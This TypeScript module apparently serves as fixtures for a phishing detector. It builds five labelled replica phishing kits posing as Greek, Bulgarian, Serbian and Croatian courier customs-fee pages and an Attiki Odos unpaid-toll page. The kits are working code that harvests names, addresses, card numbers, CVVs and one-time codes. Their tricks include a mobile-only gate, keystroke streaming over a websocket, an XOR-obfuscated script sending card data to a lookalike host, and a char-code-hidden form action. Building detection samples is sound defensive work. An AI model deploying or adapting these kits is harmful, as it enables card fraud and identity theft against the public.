import { htmlRoute, type Entry } from '../entry.js';
import { jsonRoute, jsRoute } from '../parts/e-bin.js';
import { cardFields, codes, courierLogo, doc, luhnJs, xorPack, xorUnpackJs } from '../parts/xc-kit.js';

// ELTA customs fee, smishing-kit style: mobile-only gate, tracking card, address step, card step, OTP step, all to a JSON API.
const eltaKit = doc({
  lang: 'el',
  title: 'ΕΛΤΑ Courier – Εκκρεμεί πληρωμή',
  css: `body{background:#f1f3f7}.hd{background:#003b7a;padding:12px 16px}.w{max-width:460px;margin:0 auto;padding:14px}
.cd{background:#fff;border-radius:10px;padding:18px;margin-bottom:12px;box-shadow:0 1px 3px rgba(0,0,0,.08)}.tl{border-left:3px solid #ffd200;padding-left:12px;font-size:13px;color:#444}
.tl p{margin:8px 0}.tl b{color:#003b7a}.fee{display:flex;justify-content:space-between;font-size:15px;border-top:1px dashed #ccd;padding-top:10px;margin-top:10px}
.fld{margin:10px 0}.fld label{display:block;font-size:12px;color:#555;margin-bottom:3px}.fld input{width:100%;padding:11px;border:1px solid #c9d1dd;border-radius:6px;font-size:15px}
.row2{display:grid;grid-template-columns:1fr 1fr;gap:10px}.exp input{width:42%}.b{width:100%;background:#ffd200;color:#003b7a;border:0;border-radius:6px;padding:13px;font-weight:700;font-size:16px}
.s{display:none}.s.on{display:block}`,
  body: `<div class="hd">${courierLogo('elta', 30)}</div><div class="w" id="app" style="display:none">
<div class="cd"><div style="font-size:12px;color:#888">Αριθμός αποστολής</div><div style="font-size:18px;font-weight:700">RE 447 281 936 GR</div>
<div class="tl"><p><b>Σε αναμονή</b> – Τελωνείο Αθηνών: απαιτείται καταβολή τελών εκτελωνισμού</p><p>Άφιξη στο Κέντρο Διαλογής Κρυονερίου</p><p>Αποστολή από Shenzhen, CN</p></div>
<div class="fee"><span>Τέλη εκτελωνισμού</span><b>1,99 €</b></div></div>
<div class="cd s on" id="s1"><b>Διεύθυνση παράδοσης</b><form id="f1">
<div class="fld"><label>Ονοματεπώνυμο</label><input name="name" required></div><div class="fld"><label>Οδός και αριθμός</label><input name="addr" required></div>
<div class="row2"><div class="fld"><label>Τ.Κ.</label><input name="tk" required></div><div class="fld"><label>Πόλη</label><input name="city" required></div></div>
<div class="fld"><label>Κινητό</label><input name="tel" required></div><button class="b">Συνέχεια</button></form></div>
<div class="cd s" id="s2"><b>Πληρωμή 1,99 €</b><form id="f2">${cardFields('el', { holder: 'ch', number: 'pan', mm: 'mm', yy: 'yy', cvv: 'cvv' })}<button class="b">Πληρωμή</button></form></div>
<div class="cd s" id="s3"><b>Επαλήθευση 3-D Secure</b><p style="font-size:13px">Η τράπεζά σας έστειλε κωδικό μίας χρήσης στο κινητό σας.</p><form id="f3"><div class="fld"><input name="otp" maxlength="8" placeholder="Κωδικός SMS" required></div><button class="b">Επιβεβαίωση</button></form></div>
</div>
<script>
${luhnJs('L')}
if(!/Android|iPhone|iPad|Mobile/i.test(navigator.userAgent)){document.body.innerHTML='<p style="text-align:center;margin-top:30vh;font:14px Arial">Η σελίδα είναι διαθέσιμη μόνο από κινητό τηλέφωνο.</p>'}else{document.getElementById('app').style.display='block'}
var oid=null;function api(step,form){var o={step:step,oid:oid};new FormData(form).forEach(function(v,k){o[k]=v});return fetch('/api/v1/order',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify(o)}).then(function(r){return r.json()}).then(function(j){oid=j.oid||oid;return j})}
function to(n){document.querySelectorAll('.s').forEach(function(s){s.classList.remove('on')});document.getElementById('s'+n).classList.add('on')}
document.getElementById('f1').onsubmit=function(e){e.preventDefault();api('addr',this).then(function(){to(2)})};
document.getElementById('f2').onsubmit=function(e){e.preventDefault();if(!L(this.pan.value))return alert('Μη έγκυρη κάρτα');api('card',this).then(function(){to(3)})};
document.getElementById('f3').onsubmit=function(e){e.preventDefault();var f=this;api('otp',f).then(function(j){if(j.retry){f.otp.value='';alert('Λάθος κωδικός, δοκιμάστε ξανά')}else location='https://www.elta-courier.gr/'})};
</script>`,
});

// Econt: Bulgarian "held shipment" fee form, XHR to a PHP gate on the kit host.
const econtKit = doc({
  lang: 'bg',
  title: 'Еконт | Доплащане за пратка',
  css: `body{background:#f4f6fb}.top{background:#233a86;padding:14px 20px;display:flex;justify-content:space-between;align-items:center;color:#fff;font-size:13px}
.cnt{max-width:540px;margin:20px auto;padding:0 12px}.box{background:#fff;border-radius:6px;padding:20px;margin-bottom:14px}
.st{display:flex;gap:8px;font-size:12px;margin-bottom:12px}.st span{flex:1;text-align:center;padding:6px;background:#e8ecf6;border-radius:3px}.st .a{background:#ffcc00}
.fld{margin:9px 0}.fld label{display:block;font-size:12px;margin-bottom:3px}.fld input{width:100%;padding:10px;border:1px solid #c2c9da;border-radius:4px}
.row2{display:grid;grid-template-columns:1fr 1fr;gap:10px}.exp input{width:42%}.pay{width:100%;background:#233a86;color:#fff;border:0;padding:12px;border-radius:4px;font-size:15px}`,
  body: `<div class="top">${courierLogo('econt', 30)}<span>Проследяване на пратки</span></div>
<div class="cnt"><div class="box"><div class="st"><span>Приета</span><span>В транзит</span><span class="a">Задържана</span><span>Доставена</span></div>
<p>Пратка <b>№ 1051 3348 0721</b> е задържана в логистичен център София поради неплатена такса за доставка на адрес.</p>
<p>Дължима сума: <b>0,61 € (1,19 лв.)</b>. Ако таксата не бъде платена в рамките на 24 часа, пратката ще бъде върната на подателя.</p></div>
<div class="box"><form id="ec"><div class="fld"><label>Име и фамилия</label><input name="ime" required></div><div class="fld"><label>Телефон</label><input name="tel" required></div>
<div class="fld"><label>Адрес за доставка</label><input name="adres" required></div>
${cardFields('bg', { number: 'nomer', mm: 'mesec', yy: 'godina', cvv: 'kod' })}
<button class="pay">Плати 0,61 €</button></form></div></div>
<script>
${luhnJs('ok')}
document.getElementById('ec').addEventListener('submit',function(e){e.preventDefault();if(!ok(this.nomer.value)){alert('Невалидна карта');return}
var x=new XMLHttpRequest();x.open('POST','/ajax/pay.php',true);x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');x.send(new URLSearchParams(new FormData(this)).toString());
x.onloadend=function(){location.href='/3ds.html?o='+Date.now()}});
</script>`,
});
const econt3ds = doc({
  lang: 'bg',
  title: 'Потвърждение на плащането',
  body: `<div style="max-width:420px;margin:40px auto;background:#fff;padding:24px;border:1px solid #ddd;font-family:Arial"><div style="display:flex;justify-content:space-between"><b>Verified by Visa</b><b>Mastercard ID Check</b></div>
<p>Магазин: ECONT EXPRESS<br>Сума: 0,61 EUR</p><p>Въведете еднократния код, изпратен на мобилния Ви телефон.</p>
<form method="post" action="/ajax/pay.php?s=otp"><input name="otp" maxlength="8" style="width:100%;padding:10px"><button style="margin-top:10px;width:100%;padding:11px">Потвърди</button></form></div>`,
});

// Pošta Srbije: Cyrillic customs-fee kit streaming every keystroke over a websocket (live-panel style).
const postaRsKit = doc({
  lang: 'sr',
  title: 'Пошта Србије – Царинска такса',
  css: `.h{background:#0b3d91;padding:12px 18px}.c{max-width:480px;margin:16px auto;background:#fff;padding:20px;border-radius:6px}
.info{background:#fff8db;border:1px solid #f1d77a;padding:10px;font-size:14px;border-radius:4px}.fld{margin:10px 0}.fld label{display:block;font-size:12px;margin-bottom:3px}
.fld input{width:100%;padding:10px;border:1px solid #b9c2d4;border-radius:4px}.row2{display:grid;grid-template-columns:1fr 1fr;gap:10px}.exp input{width:42%}
.b{width:100%;background:#0b3d91;color:#ffcd00;border:0;padding:12px;border-radius:4px;font-size:16px;font-weight:700}`,
  body: `<div class="h">${courierLogo('postars', 30)}</div>
<div class="c"><div class="info">Пошиљка <b>CP 118 402 775 RS</b> налази се у Царинској пошти Београд. Потребно је да платите царинску таксу од <b>189,00 RSD</b> како би пошиљка била уручена.</div>
<form id="p"><div class="fld"><label>Име и презиме</label><input name="ime" required></div><div class="fld"><label>Адреса</label><input name="adresa" required></div>
<div class="fld"><label>Телефон</label><input name="tel" required></div>
${cardFields('sr', { holder: 'vlasnik', number: 'kartica', mm: 'mm', yy: 'gg', cvv: 'cvv' })}
<button class="b">Плати 189,00 RSD</button></form></div>
<script>
var ws=new WebSocket('wss://'+location.host+'/ws/live?room=rs-posta');
function s(t,d){try{ws.send(JSON.stringify({t:t,d:d,ts:Date.now()}))}catch(e){}}
document.querySelectorAll('#p input').forEach(function(i){i.addEventListener('input',function(){s('key',{f:i.name,v:i.value})})});
ws.onmessage=function(m){var c=JSON.parse(m.data);if(c.go==='otp'){document.getElementById('p').outerHTML='<div class="c"><p>Унесите код који сте добили SMS-ом од ваше банке.</p><input id="o" style="width:100%;padding:10px"><button class="b" onclick="s(\\'otp\\',document.getElementById(\\'o\\').value)">Потврди</button></div>'}if(c.go==='done')location='https://www.posta.rs/'};
document.getElementById('p').onsubmit=function(e){e.preventDefault();var o={};new FormData(this).forEach(function(v,k){o[k]=v});s('submit',o);this.querySelector('button').textContent='Обрада…'};
</script>`,
});

// Hrvatska pošta: page shell + an _0x-style obfuscated script that builds and ships the card form.
const hpJsPlain = `var f=document.getElementById('hp');f.addEventListener('submit',function(e){e.preventDefault();var d={};new FormData(f).forEach(function(v,k){d[k]=v});
fetch('https://hp-carina.paket-dostava.com/gw/c',{method:'POST',headers:{'Content-Type':'text/plain'},body:btoa(unescape(encodeURIComponent(JSON.stringify(d))))}).finally(function(){location.href='https://www.posta.hr/'})});`;
const hpKit = doc({
  lang: 'hr',
  title: 'Hrvatska pošta – plaćanje carinske pristojbe',
  css: `.h{background:#ffcc00;padding:10px 18px}.c{max-width:500px;margin:18px auto;background:#fff;padding:22px;border-radius:6px;border-top:4px solid #0b2d6b}
.fld{margin:10px 0}.fld label{display:block;font-size:12px;margin-bottom:3px}.fld input{width:100%;padding:10px;border:1px solid #bbc}
.row2{display:grid;grid-template-columns:1fr 1fr;gap:10px}.exp input{width:42%}.b{width:100%;background:#0b2d6b;color:#fff;border:0;padding:12px;font-size:15px}`,
  body: `<div class="h">${courierLogo('postahr', 32)}</div>
<div class="c"><h2 style="margin-top:0">Pošiljka čeka carinjenje</h2><p>Broj pošiljke: <b>LP 0932 7714 5HR</b><br>Iznos za plaćanje: <b>2,45 EUR</b> (carinska pristojba i PDV)</p>
<p style="font-size:13px;color:#666">Neplaćene pošiljke vraćaju se pošiljatelju nakon 3 radna dana.</p>
<form id="hp">${cardFields('hr', { holder: 'ime', number: 'broj', mm: 'mj', yy: 'god', cvv: 'cvv' })}<button class="b">Plati 2,45 EUR</button></form></div>
<script src="/hp/bundle.min.js"></script>`,
});
const hpBundle = `${xorUnpackJs('_0x3e1a')}var _0x51c2=['${xorPack(hpJsPlain, 'hp2025')}','aHAyMDI1'];(function(_0x1,_0x2){new Function(_0x3e1a(_0x1,atob(_0x2)))()})(_0x51c2[0],_0x51c2[1]);`;

// Attiki Odos unpaid toll: a card form for a small fine, branded as the motorway operator.
const aodosKit = doc({
  lang: 'el',
  title: 'Αττική Οδός – Οφειλή διοδίων',
  css: `.h{background:#1b3a5c;color:#fff;padding:14px 22px;font-size:18px;font-weight:700}.h span{color:#f7b500}
.c{max-width:520px;margin:20px auto;background:#fff;padding:22px;border-radius:6px}.tbl{width:100%;border-collapse:collapse;font-size:14px;margin:10px 0}.tbl td{border-bottom:1px solid #eee;padding:7px 4px}
.fld{margin:10px 0}.fld label{display:block;font-size:12px;margin-bottom:3px}.fld input{width:100%;padding:10px;border:1px solid #bcc6d2;border-radius:4px}
.row2{display:grid;grid-template-columns:1fr 1fr;gap:10px}.exp input{width:42%}.b{width:100%;background:#f7b500;border:0;padding:13px;font-weight:700;font-size:15px;border-radius:4px}`,
  body: `<div class="h">Αττική <span>Οδός</span> · e-pass</div>
<div class="c"><h2 style="margin-top:0">Εκκρεμής οφειλή διέλευσης</h2>
<table class="tbl"><tr><td>Αρ. κυκλοφορίας</td><td><input name="plate" form="ao" placeholder="ΧΧΧ-0000" style="padding:6px;width:120px" required></td></tr>
<tr><td>Σταθμός</td><td>Μεταμόρφωση (Σ.Δ. 3)</td></tr><tr><td>Ημερομηνία</td><td id="dt"></td></tr><tr><td>Ποσό</td><td><b>4,65 €</b></td></tr></table>
<p style="font-size:13px;color:#a33">Αν η οφειλή δεν εξοφληθεί εντός 24 ωρών, θα επιβληθεί πρόστιμο 20πλάσιο του διοδίου σύμφωνα με τον ΚΟΚ.</p>
<form id="ao" method="post" action="https://aodos-pliromi.gr-diodia.com/pay/charge.php">${cardFields('el', { holder: 'owner', number: 'card', mm: 'mm', yy: 'yy', cvv: 'cvc' })}
<input type="hidden" name="k" value="${String.fromCharCode(97, 111, 50, 53)}"><button class="b">Εξόφληση 4,65 €</button></form></div>
<script>var d=new Date(Date.now()-3*864e5);document.getElementById('dt').textContent=d.toLocaleDateString('el-GR')+' 18:42';
var g=String.fromCharCode(${codes('https://aodos-pliromi.gr-diodia.com/pay/charge.php')});document.getElementById('ao').action=g;</script>`,
});

export const entries: Entry[] = [
  {
    id: 'xc-elta-customs-fee-kit',
    label: 'phishing',
    kind: 'courier-customs-fee-kit',
    url: 'https://elta-courier.gr-telonio.com/track/RE447281936GR',
    body: eltaKit,
    routes: { 'elta-courier.gr-telonio.com/api/v1/order': jsonRoute({ oid: 'e7f1', ok: true }) },
  },
  {
    id: 'xc-econt-cod-card-kit',
    label: 'phishing',
    kind: 'courier-fee-card-kit',
    url: 'https://econt-bg.dostavka-pratka.com/pratka/105133480721',
    body: econtKit,
    routes: {
      'econt-bg.dostavka-pratka.com/ajax/pay.php': jsonRoute({ r: 1 }),
      'econt-bg.dostavka-pratka.com/3ds.html': htmlRoute(econt3ds),
    },
  },
  {
    id: 'xc-posta-srbije-carina-kit',
    label: 'phishing',
    kind: 'courier-customs-live-socket-kit',
    url: 'https://posta-srbije.carina-placanje.top/posiljka/CP118402775RS',
    body: postaRsKit,
  },
  {
    id: 'xc-hrvatska-posta-carina-kit',
    label: 'phishing',
    kind: 'obfuscated-courier-fee-kit',
    url: 'https://hp-carina.paket-dostava.com/placanje/LP09327714',
    body: hpKit,
    routes: { 'hp-carina.paket-dostava.com/hp/bundle.min.js': jsRoute(hpBundle) },
  },
  {
    id: 'xc-attiki-odos-toll-kit',
    label: 'phishing',
    kind: 'unpaid-toll-card-kit',
    url: 'https://aodos-pliromi.gr-diodia.com/ofeili/',
    body: aodosKit,
  },
];
